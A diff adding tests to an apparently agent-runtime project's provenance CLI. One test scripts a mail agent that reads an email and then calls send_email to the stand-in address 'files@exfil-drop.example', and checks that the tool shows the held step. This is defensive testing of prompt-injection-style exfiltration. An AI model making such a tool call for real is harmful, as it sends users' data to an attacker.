@@ -138,3 +138,27 @@ def test_corral_show_displays_provenance(registry: ToolRegistry) -> None:
     assert result.exit_code == 0, result.output
     assert "$.iban untrusted" in result.output
     assert "»GB33 BUKB 2020 1555 5555 55«" in result.output
+
+
+def test_corral_provenance_show_explains_the_held_step(registry: ToolRegistry) -> None:
+    from typer.testing import CliRunner
+
+    from corral.provenance.cli import app
+
+    agent = AgentSpec(name="mail", autonomy="autonomous", allowed_tools=("read_email", "send_email"))
+    rt = Runtime.open(durable_runs=False, registry=registry)
+    script = [{"tool": "read_email", "args": {}},
+              {"tool": "send_email", "args": {"to": "files@exfil-drop.example", "subject": "s", "body": "b"}}]
+    run = rt.run(agent, TASK, model=ScriptedModel(script))
+    result = CliRunner().invoke(app, ["show", run.id[:10], "--step", "2"], env={"COLUMNS": "200"})
+    assert result.exit_code == 0, result.output
+    assert "step 2 · send_email" in result.output and "»files@exfil-drop.example«" in result.output
+
+
+def test_corral_provenance_show_unknown_run_is_one_line_error() -> None:
+    from typer.testing import CliRunner
+
+    from corral.provenance.cli import app
+
+    result = CliRunner().invoke(app, ["show", "nope-no-such-run"])
+    assert result.exit_code == 1 and "error:" in result.output
